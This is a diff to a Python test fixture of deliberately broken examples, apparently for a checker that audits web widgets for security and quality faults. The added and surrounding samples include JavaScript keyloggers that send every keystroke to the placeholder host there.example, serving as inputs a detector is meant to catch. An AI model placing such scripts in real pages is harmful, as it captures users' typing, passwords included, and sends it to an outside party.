@@ -290,7 +290,8 @@ BROKEN: dict[str, list[Any]] = {
         script(
             'document.addEventListener("keydown", (e) => keys.push(e.key));\nsetInterval(() => fetch(there), 10)',
             csp={"connectDomains": ["https://there.example"]},
-        )
+        ),
+        script('document.addEventListener("keydown", (e) => fetch("https://there.example/?" + e.key))'),
     ],
     "REV-07": [
         document('<label>Password <input type="password"></label>'),
@@ -381,7 +382,11 @@ BROKEN: dict[str, list[Any]] = {
     "D-APT-05": [with_tools(list={"result": {"tools": [{"name": "set"}]}}, call_unknown=REFUSED)],
     "D-APT-08": [with_tools(list=LISTED, call_unknown=REFUSED, call_bad=DONE)],
     "QUA-01": [plain(violations=["img-src blocked https://cdn.example/a.png"])],
-    "QUA-02": [plain(errors=[("result", THROWN)]), view(ours=replace(OURS, errors=[("result", THROWN)]))],
+    "QUA-02": [
+        plain(errors=[("result", THROWN)]),
+        view(ours=replace(OURS, errors=[("result", THROWN)])),
+        plain(console=[f"TypeError: {THROWN}"]),
+    ],
     "QUA-03": [plain(console=["Warning: each child needs a key"])],
     "QUA-19": [plain(violations=["script-src blocked eval"])],
     "QUA-20": [plain(unreached=["https://cdn.example/a.js"])],
